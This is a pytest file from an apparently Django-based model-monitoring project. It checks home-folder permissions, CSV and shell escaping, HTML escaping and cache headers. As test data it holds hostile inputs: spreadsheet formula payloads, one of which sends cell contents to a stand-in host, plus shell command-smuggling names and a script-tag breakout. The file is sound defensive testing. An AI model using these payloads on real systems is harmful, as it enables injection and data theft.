"""Other users of the machine, spreadsheets, shells and caches, each of which was once handed more than it should."""

import ast
import csv
import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from django.core.mail import EmailMessage
from django.core.mail.backends.filebased import EmailBackend
from django.test import Client

from driftline.base.accounts.models import Project, User
from driftline.base.accounts.services import create_project
from driftline.base.clock import now
from driftline.operations.services.paths import NOBODY
from driftline.web.pages import snippets
from driftline.web.pages.snippets import Example
from inference.registry.versions import external_version
from inference.runtime.session import ModelRefused, load_session
from inference.serving.plan import Plan, publish_plan
from monitors.metrics.store.models import MetricPoint
from tests.pages_client import PagesClient
from tests.worlds.approvals import make_model
from tests.worlds.points import store_points

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1)', "@SUM(1+1)*cmd", "\t=1+1", "-1+cmd|' /C calc'!A0"]
NAMES = [
    "a'$(touch ran)'b",
    'a"; touch ran; "',
    "a`touch ran`",
    "a\\\n; touch ran",
    "</pre><script>",
    "${HOME}",
]


def start_with(home: Path, code: str = "import os; print(os.umask(0))") -> subprocess.CompletedProcess[str]:
    """Start a process that reads the settings of a home, as each of ours does."""
    return subprocess.run(
        [sys.executable, "-c", f"from driftline import settings\n{code}"],
        env={**os.environ, "DRIFTLINE_HOME": str(home)},
        umask=0o022,
        capture_output=True,
        text=True,
        check=False,
    )


def modes(home: Path) -> dict[str, str]:
    return {path.name: f"{path.stat().st_mode & 0o777:o}" for path in (home, *home.iterdir())}


class TestHome:
    """A local user reads the mail of a password reset, or the digests of tokens, out of the home."""

    @pytest.fixture
    def reachable(self) -> Iterator[Path]:
        """A folder that every user of the machine may enter, unlike pytest's own."""
        with tempfile.TemporaryDirectory() as folder:
            Path(folder).chmod(0o755)
            yield Path(folder)

    def test_an_open_home_of_an_older_release_is_closed_at_the_start(self, reachable: Path) -> None:
        home = reachable / "home"
        for folder in (home, home / "mail"):
            folder.mkdir(mode=0o755)
        for path in (home / "mail" / "reset.log", home / "plan.json"):
            path.write_text("https://here/accounts/password/reset/key/secret/")
            path.chmod(0o644)

        started = start_with(home)

        assert started.stdout.strip() == str(0o077), started.stderr
        found = modes(home)
        assert (found["home"], found["mail"], found["plan.json"]) == ("700", "700", "600")
        if os.geteuid() == 0:
            code = f"open({str(home / 'mail' / 'reset.log')!r})"
            stranger = subprocess.run(
                [sys.executable, "-c", code],
                user=NOBODY,
                group=NOBODY,
                capture_output=True,
                text=True,
                check=False,
            )
            assert "PermissionError" in stranger.stderr

    def test_a_new_home_lets_nobody_in(self, reachable: Path) -> None:
        started = start_with(reachable / "home")

        assert started.returncode == 0, started.stderr
        assert set(modes(reachable / "home").values()) <= {"700", "600"}

    def test_a_folder_that_all_users_share_is_refused_as_home(self, reachable: Path) -> None:
        reachable.chmod(0o1777)

        started = start_with(reachable)

        assert "a folder that all users of this machine share" in started.stderr
        assert reachable.stat().st_mode & 0o7777 == 0o1777

    @pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder away")
    def test_an_open_home_that_is_not_ours_to_close_stops_the_start(self, reachable: Path) -> None:
        home = reachable / "home"
        home.mkdir()
        home.chmod(0o777)

        code = (
            "import os; os.setgid(65534); os.setuid(65534)\n"
            "from pathlib import Path; from driftline.settings.home_folder import protect_home\n"
            f"protect_home(Path({str(home)!r}))"
        )
        refused = start_with(reachable / "other", code)

        assert f"Other users can reach {home} (mode 0777)" in refused.stderr
        assert "chmod go-rwx" in refused.stderr

    def test_a_mail_that_is_written_to_a_file_is_for_its_owner_alone(self, tmp_path: Path) -> None:
        message = EmailMessage("Reset", "https://here/secret", to=["ada@bank.example"])

        EmailBackend(file_path=str(tmp_path / "mail")).send_messages([message])

        assert [path.stat().st_mode & 0o077 for path in (tmp_path / "mail").iterdir()] == [0]

    def test_the_plan_with_its_token_digests_is_for_its_owner_alone(self, tmp_path: Path) -> None:
        publish_plan(Plan(generation=1, tokens=[], models=[]), tmp_path / "plan.json")

        assert (tmp_path / "plan.json").stat().st_mode & 0o077 == 0


class TestPages:
    """What a tenant calls a feature or a class runs in a colleague's spreadsheet or shell."""

    @pytest.fixture(autouse=True)
    def home(self, tmp_path: Path, settings: Any) -> None:
        settings.HOME = tmp_path

    @pytest.fixture
    def owner(self, db: None) -> User:
        return User.objects.create_user("owner@bank.example")

    @pytest.fixture
    def project(self, owner: User) -> Project:
        return create_project(slug="bank", name="Bank", owner=owner)

    @pytest.fixture
    def client(self, owner: User, project: Project) -> Client:
        client = PagesClient()
        client.force_login(owner)
        return client

    def test_a_models_data_holds_no_formula(self, client: Client, project: Project) -> None:
        model = make_model(project)
        for place, name in enumerate(FORMULAS):
            store_points(
                MetricPoint(
                    model=model, metric="psi", feature=name, role="champion", version="1", segment="", span="day",
                    start=now().replace(hour=place, minute=0, second=0, microsecond=0), value=-0.5, n=1, status="ok",
                )
            )  # fmt: skip

        answer = client.get(f"/models/{model.name}/data.csv?metric=psi")

        rows = list(csv.DictReader(answer.content.decode().splitlines()))
        assert sorted(row["feature"] for row in rows) == sorted(f"'{name}" for name in FORMULAS)
        assert {row["value"] for row in rows} == {"-0.5"}

    @pytest.mark.parametrize("path", ["/", "/settings/tokens", "/start/", "/accounts/email/"])
    def test_no_page_of_a_session_is_stored(self, client: Client, path: str) -> None:
        """The page with a new token came back out of the browser's cache after the logout."""
        answer = client.get(path, follow=True)

        assert "no-store" in answer["Cache-Control"]

    def test_a_static_file_is_stored_as_before(self, client: Client) -> None:
        with closing(client.get("/static/driftline.css")) as answer:
            assert answer.status_code == 200
            assert "no-store" not in answer["Cache-Control"]

    def test_the_snippets_of_the_page_are_escaped(self, client: Client, project: Project) -> None:
        model = make_model(project)
        version = external_version(model=model, version="1")
        version.signature = {"features": [{"name": "</pre><script>", "type": "float"}]}
        version.save(update_fields=["signature"])

        text = client.get(f"/start/?model={model.name}").content.decode()

        assert "</pre><script>" not in text
        assert "&lt;/pre&gt;&lt;script&gt;" in text


class TestSnippets:
    """A feature's name breaks out of the line that a colleague copies into a terminal."""

    @pytest.mark.parametrize("name", NAMES)
    def test_a_name_is_data_to_the_shell(self, name: str, tmp_path: Path) -> None:
        snippet = snippets.log_a_prediction("http://here/api/v1/models/m", Example({name: 1.5}))

        script = f'curl() {{ for word in "$@"; do last=$word; done; printf %s "$last"; }}\n{snippet}'
        printed = subprocess.run(
            ["sh", "-c", script], cwd=tmp_path, capture_output=True, text=True, check=True
        ).stdout

        assert json.loads(printed)["predictions"][0]["features"] == {name: 1.5}
        assert list(tmp_path.iterdir()) == []

    @pytest.mark.parametrize("name", NAMES)
    def test_a_name_is_data_to_python(self, name: str) -> None:
        tree = ast.parse(snippets.log_from_python("http://here", "m", Example({name: "a"})))

        calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call)]
        [features] = [word.value for call in calls for word in call.keywords if word.arg == "features"]
        assert ast.literal_eval(features) == {name: "a"}
        assert len(calls) == 3


class TestErrors:
    def test_the_reason_of_a_version_without_its_file_names_no_folder(self, tmp_path: Path) -> None:
        """Callers of the model read it in a 503."""
        with pytest.raises(ModelRefused) as refused:
            load_session(tmp_path / "model.onnx", "0" * 64)

        assert str(tmp_path) not in str(refused.value)
        assert str(refused.value).startswith("The artifact 000000000000 cannot be read: No such file")
